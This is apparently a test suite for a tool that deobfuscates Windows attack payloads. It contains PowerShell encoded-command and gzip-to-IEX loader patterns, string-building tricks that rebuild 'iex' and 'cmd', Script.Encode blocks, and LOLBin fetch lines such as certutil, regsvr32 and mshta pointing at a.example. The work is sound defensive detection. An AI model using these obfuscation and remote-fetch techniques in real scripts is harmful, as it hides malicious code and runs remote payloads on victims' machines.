import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { analysePayload, type PayloadKind } from './analyse.ts';
import { decodeEncodedScripts } from './encoded-script.ts';

/** Operation and text of each layer. */
function peeled(text: string, kind: PayloadKind = 'auto'): readonly (readonly [string, string])[] {
  return analysePayload(text, kind).layers.map((layer) => [layer.operation, layer.text]);
}

function lastText(text: string, kind: PayloadKind = 'auto'): string | undefined {
  return analysePayload(text, kind).layers.at(-1)?.text;
}

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
/** Letters that the decoder reads as each character, by place in the turn of 64. */
const ENCODED: readonly ReadonlyMap<string, string>[] = Array.from({ length: 64 }, (_, place) => {
  const map = new Map<string, string>();
  for (let code = 9; code < 128; code++) {
    const letter = String.fromCharCode(code);
    if (letter === '@' || (code > 9 && code < 32)) continue;
    // `@#` stands for one character and takes one place of the turn.
    const [block] = decodeEncodedScripts(`#@~^AAAAAA==${'@#'.repeat(place)}${letter}AAAAAA==^#~@`);
    const plain = block?.text.charAt(place) ?? '';
    if (!map.has(plain)) map.set(plain, letter);
  }
  for (const [plain, mark] of [
    ['\r', '@#'],
    ['\n', '@&'],
    ['<', '@!'],
    ['>', '@*'],
    ['@', '@$'],
  ] as const)
    map.set(plain, mark);
  return map;
});

function encodeScript(text: string): string {
  const number = (value: number): string => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32LE(value);
    return bytes.toString('base64');
  };
  const body = [...text].map((ch, i) => ENCODED[i & 63]?.get(ch) ?? ch).join('');
  const sum = [...text].reduce((total, ch) => total + ch.charCodeAt(0), 0);
  return `#@~^${number(body.length)}${body}${number(sum)}^#~@`;
}

const base64 = (text: string | Uint8Array): string => Buffer.from(text as string).toString('base64');

describe('the vectors of DOMAIN 5', () => {
  test('an encoded command gives its text and then the joined string', () => {
    assert.deepEqual(peeled('powershell -e JwBhACcAKwAnAGIAJwA='), [
      ['powershell -EncodedCommand', "'a'+'b'"],
      ['string concatenation', 'ab'],
    ]);
  });
  test('character codes cast and joined give iex', () =>
    assert.equal(lastText("[char[]](105,101,120) -join ''"), 'iex'));
  test('the format operator gives iex', () => assert.equal(lastText(`"{1}{0}"-f'x','ie'`), 'iex'));
  test('StrReverse gives cmd', () => assert.equal(lastText('StrReverse("dmc")'), 'cmd'));
  test('carets come out', () => assert.equal(lastText('p^o^w^e^r'), 'power'));
});

test('a script that is called a command is read all the same', () => {
  assert.equal(lastText('StrReverse("dmc")', 'command'), 'cmd');
  assert.equal(lastText("[char[]](105,101,120) -join ''", 'command'), 'iex');
});

describe('encoded commands', () => {
  const encoded = utf16('Get-Date');
  const options = [
    ...['-e', '-ec', '-en', '-enc', '-enco', '-encodedcommand', '-EnCoDeD', '/enc', '/E', '–enc', '—enc', '―e'],
    ...['"-enc"', '-e^nc', "'-enc'"],
  ];
  for (const option of options) {
    test(`${option} is taken for -EncodedCommand`, () =>
      assert.deepEqual(peeled(`powershell.exe -nop ${option} ${encoded}`).at(-1), [
        'powershell -EncodedCommand',
        'Get-Date',
      ]));
  }
  test('-ep and -ex are other options', () => {
    assert.deepEqual(peeled('powershell -ep bypass -file a.ps1'), []);
    assert.deepEqual(peeled('powershell -ex bypass -file a.ps1'), []);
  });
  test('missing padding is accepted', () =>
    assert.equal(lastText(`powershell -enc ${utf16('dir x').replace(/=+$/, '')}`), 'dir x'));
  test('UTF-8 in place of UTF-16 is read', () =>
    assert.equal(lastText(`powershell -enc ${base64('Write-Host "a plain text"')}`), 'Write-Host "a plain text"'));
  test('one that a script only mentions is decoded', () =>
    assert.deepEqual(peeled(`x = "powershell -w 1 -enc ${utf16('Get-Service winmgmt')}"`, 'vbscript').at(-1), [
      'powershell -EncodedCommand',
      'Get-Service winmgmt',
    ]));
});

describe('base64 and what lies in it', () => {
  const script = 'Write-Output "one two three four"';
  test('FromBase64String with an encoding gives the text', () =>
    assert.deepEqual(peeled(`[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(script)}'))`), [
      ['base64', script],
    ]));
  test('gzip through a stream gives the script, base64 above it', () => {
    const packed = base64(gzipSync(script));
    const text = `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String("${packed}"),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
    const analysis = analysePayload(text);
    assert.deepEqual(
      analysis.layers.map(({ depth, operation, text: plain }) => [depth, operation, plain]),
      [
        [1, 'base64', `gzip data, ${gzipSync(script).length} bytes`],
        [2, 'gzip', script],
      ],
    );
    assert.ok(analysis.features.some((feature) => feature.code === 'P05'));
  });
  test('raw deflate through a stream gives the script', () => {
    const packed = base64(deflateRawSync(script));
    const text = `(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${packed}'),'Decompress')),[Text.Encoding]::ASCII)).ReadToEnd()`;
    assert.equal(lastText(text), script);
  });
  test('a bare run of packed base64 is found and inflated', () => {
    const long = script.repeat(4);
    assert.deepEqual(peeled(`x = "${base64(gzipSync(long))}"`, 'vbscript').at(-1), ['gzip', long]);
    assert.deepEqual(peeled(`x = "${base64(deflateSync(long))}"`, 'vbscript').at(-1), ['zlib', long]);
  });
  test('names of base64 letters are left alone', () =>
    assert.deepEqual(
      peeled(
        'ActiveScriptEventConsumer CommandLineEventConsumer ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/',
      ),
      [],
    ));
  test('a program is described and hashed', () => {
    const program = new Uint8Array(1024);
    const view = new DataView(program.buffer);
    program.set([0x4d, 0x5a]);
    view.setUint32(0x3c, 0x80, true);
    view.setUint32(0x80, 0x4550, true);
    view.setUint16(0x84, 0x8664, true);
    view.setUint32(0x88, 1_600_000_000, true);
    const analysis = analysePayload(`$b=[Convert]::FromBase64String('${base64(program)}')`);
    assert.deepEqual(
      analysis.layers.map((layer) => layer.text),
      ['PE program for x64, linked 2020-09-13T12:26:40Z, 1,024 bytes'],
    );
    assert.deepEqual(
      analysis.indicators.map((item) => item.kind),
      ['md5', 'sha1', 'sha256'],
    );
    assert.ok(analysis.features.some((feature) => feature.code === 'P08'));
  });
  test('a one-byte XOR is guessed when it gives readable text', () => {
    const hidden = Buffer.from(script.repeat(2)).map((byte) => byte ^ 0xa7);
    assert.deepEqual(peeled(`$b=[Convert]::FromBase64String('${base64(hidden)}')`).at(-1), [
      'xor 0xa7 (guessed)',
      script.repeat(2),
    ]);
  });
});

describe('text building in PowerShell', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['hexadecimal runs', `$x='${Buffer.from('Invoke-Thing -Now 1').toString('hex')}'`, 'Invoke-Thing -Now 1'],
    ['character casts', '[char]105+[char]101+[char]120', 'iex'],
    ['a pipeline of casts with -bxor', '-join ((74,70,91)|%{[char]($_ -bxor 0x23)})', 'iex'],
    ['split codes', "-join ('105-101-120'.Split('-')|%{[char][int]$_})", 'iex'],
    ['concatenation', "'Inv'+'oke'+'-Ex'", 'Invoke-Ex'],
    ['doubled quotes', "'it''s'+'x'", "it'sx"],
    ['replace methods', "'inXvXoke'.Replace('X','')", 'invoke'],
    ['-replace with a literal', "'inZZvoke' -creplace 'ZZ',''", 'invoke'],
    ['an index that runs backwards', "$s='xei';$s[-1..-($s.Length)] -join ''", 'iex'],
    ['[array]::Reverse', "$a='xei'.ToCharArray();[array]::Reverse($a);-join $a", 'iex'],
    ['letters of ComSpec', "$env:ComSpec[4,15,25]-join''", 'Iex'],
    ['letters of PSHome', "$PSHome[4]+$PSHome[30]+'x'", 'iex'],
    ['Get-Variable by a pattern', "(gv '*mdr*').Name[3,11,2]-join''", 'iex'],
    ['constants in variables', "$a='ab';$b='cd';$a+$b", 'abcd'],
    ['[string]::Join', "[string]::Join('',('i','e','x'))", 'iex'],
  ];
  for (const [name, text, expected] of cases) test(`${name}`, () => assert.equal(lastText(text), expected));
  test('backticks come out of words', () =>
    assert.deepEqual(peeled('Get-C`omm`and x'), [['backticks', 'Get-Command x']]));
  test('a variable that a loop changes is not taken for constant', () =>
    assert.equal(
      peeled("$a='x'; foreach ($i in $list) { $a = $a + 'y' }; iex ($a + 'z')").some(([, plain]) => plain === 'xz'),
      false,
    ));
  test('a pattern of a regular expression is left unfolded', () =>
    assert.deepEqual(peeled("'aab' -replace 'a+','c'"), []));
});

describe('VBScript and JScript', () => {
  const cases: readonly (readonly [string, string, PayloadKind, string])[] = [
    ['Chr joined with &', 'x = Chr(99) & Chr(109) & ChrW(100)', 'vbscript', 'cmd'],
    ['doubled quotes', 'x = "a""b" & "c"', 'vbscript', 'a"bc'],
    ['a continued line', 'x = "cm" & _\n "d"', 'vbscript', 'cmd'],
    ['Replace', 'x = Replace("c~m~d", "~", "")', 'vbscript', 'cmd'],
    ['single assignments', 'a = "c"\nb = "md"\nx = a & b', 'vbscript', 'cmd'],
    ['Execute of a constant', 'Execute "x = 1 + 1 : y = 2"', 'vbscript', 'x = 1 + 1 : y = 2'],
    ['fromCharCode', 'var x = String.fromCharCode(99,109,100)', 'jscript', 'cmd'],
    ['split, reverse, join', 'var x = "dmc".split("").reverse().join("")', 'jscript', 'cmd'],
    ['escapes of letters', 'eval(unescape("%63%6d%64"))', 'jscript', 'cmd'],
    ['a replace by a literal pattern', 'var x = "cZmZd".replace(/Z/g, "")', 'jscript', 'cmd'],
  ];
  for (const [name, text, kind, expected] of cases) test(name, () => assert.equal(lastText(text, kind), expected));
  test('a command that the script starts is a layer of its own', () =>
    assert.deepEqual(peeled('CreateObject("WScript.Shell").Run "cmd /c whoami", 0', 'vbscript'), [
      ['command started by the script', 'cmd /c whoami'],
      ['cmd /c', 'whoami'],
    ]));
  test("blocks of Microsoft's own encoder are decoded and their sums agree", () => {
    assert.deepEqual(peeled('#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@'), [['Script.Encode', 'MsgBox "Hello"']]);
    assert.deepEqual(peeled('#@~^CAAAAA==\\ko$K6,FoQIAAA==^#~@'), [['Script.Encode', 'MsgBox 1']]);
  });
  test('the turn of the three tables is the published one, all 64 steps', () => {
    const turn = '1201202002021020102011200210200211020201011201021020112001120102';
    const letters = ['+', 'n', '\x7f'];
    const body = [...turn].map((table) => letters[Number(table)]).join('');
    assert.equal(decodeEncodedScripts(`#@~^QAAAAA==${body}QBkAAA==^#~@`)[0]?.text, 'e'.repeat(64));
  });
  test('an encoded script is decoded and its sum is checked', () => {
    const block = encodeScript('MsgBox "Hello <world> @ once"');
    assert.deepEqual(peeled(block), [['Script.Encode', 'MsgBox "Hello <world> @ once"']]);
    assert.equal(peeled(block.replace('==^#~@', 'x=^#~@'))[0]?.[0] ?? 'none', 'Script.Encode (damaged)');
  });
});

describe('cmd', () => {
  test('set and call', () => {
    assert.equal(peeled('set a=who&& set b=ami&& call %a%%b%')[0]?.[1], 'call whoami');
  });
  test('a part of a variable', () => assert.equal(peeled('cmd /c %ComSpec:~-7,3% /c dir')[1]?.[1], 'cmd /c dir'));
  test('ordinary quoting of & and > is no noise', () =>
    assert.deepEqual(peeled('cmd /c echo a ^& b ^> c'), [['cmd /c', 'echo a ^& b ^> c']]));
  test("WMI's own marks stay", () =>
    assert.deepEqual(peeled('cmd /c echo %ProcessId%'), [['cmd /c', 'echo %ProcessId%']]));
  test('the command of for /f', () =>
    assert.deepEqual(peeled(`for /f "tokens=1" %i in ('whoami') do net user %i`), [
      ['for /f', 'whoami'],
      ['for do', 'net user %i'],
    ]));
});

describe('programs that start others', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['cmd.exe /Q /c "whoami /all"', 'cmd /c', 'whoami /all'],
    ['powershell -nop -c "Get-Date"', 'powershell -Command', 'Get-Date'],
    ['powershell Get-Date', 'powershell -Command', 'Get-Date'],
    ['mshta vbscript:Close(1)', 'mshta vbscript', 'Close(1)'],
    ['mshta http://a.example/x.hta', 'mshta link', 'http://a.example/x.hta'],
    ['regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll', 'regsvr32 /i', 'http://a.example/x.sct'],
    [
      'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";x',
      'rundll32 javascript',
      '"\\..\\mshtml,RunHTMLApplication ";x',
    ],
    ['certutil -urlcache -split -f http://a.example/x o', 'certutil -urlcache', 'http://a.example/x'],
    ['bitsadmin /transfer j http://a.example/x c:\\o', 'bitsadmin /transfer', 'http://a.example/x'],
    ['wmic os get /format:"http://a.example/x.xsl"', 'wmic /format', 'http://a.example/x.xsl'],
    ['wmic /node:B process call create "calc.exe 1"', 'wmic process call create', 'calc.exe 1'],
    ['msiexec /q /i http://a.example/x.msi', 'msiexec /i', 'http://a.example/x.msi'],
    ['curl -o x http://a.example/x', 'curl', 'http://a.example/x'],
    ['ftp -s:c:\\x.txt', 'ftp -s', 'c:\\x.txt'],
    ['schtasks /create /tn n /tr "calc.exe 2"', 'schtasks /tr', 'calc.exe 2'],
    ['forfiles /p c:\\ /c "calc.exe 3"', 'forfiles /c', 'calc.exe 3'],
    ['pcalua -a calc.exe -c 4', 'pcalua -a', 'calc.exe 4'],
  ];
  for (const [line, operation, inner] of cases) {
    test(operation, () => assert.deepEqual(peeled(line)[0], [operation, inner]));
  }
  test('certutil that only hashes fetches nothing', () => assert.deepEqual(peeled('certutil -hashfile a.txt'), []));
});

describe('what a layer says', () => {
  test('offsets count in the text above', () => {
    const line = 'powershell -e JwBhACcAKwAnAGIAJwA=';
    const [first, second] = analysePayload(line).layers;
    assert.equal(line.slice(first?.offset, (first?.offset ?? 0) + (first?.length ?? 0)), 'JwBhACcAKwAnAGIAJwA=');
    assert.deepEqual([second?.depth, second?.offset, second?.length], [2, 0, 7]);
    assert.equal(second?.sha256, 'fb8e20fc2e4c3f248c60c39bd652f3c1347298bb977b8b4d5903b85055620603');
  });
  test('text that holds nothing encoded gives no layer', () => assert.deepEqual(peeled('notepad.exe'), []));
});

describe('round trips', () => {
  const plain = fc.string({
    unit: fc.constantFrom(...'abcdefghij klmnop-qrstuvwxyz0123456789'),
    minLength: 12,
    maxLength: 60,
  });
  test('any text comes back from an encoded command', () => {
    fc.assert(
      fc.property(plain, (text) => {
        if (text.trim() === '') return;
        assert.equal(peeled(`powershell -enc ${utf16(text)}`)[0]?.[1], text);
      }),
      { numRuns: 100 },
    );
  });
  test('any text comes back from pieces joined with +', () => {
    fc.assert(
      fc.property(fc.array(plain, { minLength: 2, maxLength: 6 }), (parts) => {
        const text = parts.map((part) => `'${part}'`).join(' + ');
        assert.equal(peeled(text, 'powershell')[0]?.[1], parts.join(''));
      }),
      { numRuns: 100 },
    );
  });
  test('any text comes back from Chr codes', () => {
    fc.assert(
      fc.property(plain, (text) => {
        if (text.trim() === '') return;
        const codes = [...text].map((ch) => `Chr(${ch.charCodeAt(0)})`).join('&');
        assert.equal(peeled(`x = ${codes}`, 'vbscript')[0]?.[1], text);
      }),
      { numRuns: 100 },
    );
  });
  test('any text comes back from an encoded script', () => {
    fc.assert(
      fc.property(plain, (text) => {
        if (text.trim() === '') return;
        assert.equal(peeled(encodeScript(text))[0]?.[1], text);
      }),
      { numRuns: 100 },
    );
  });
});
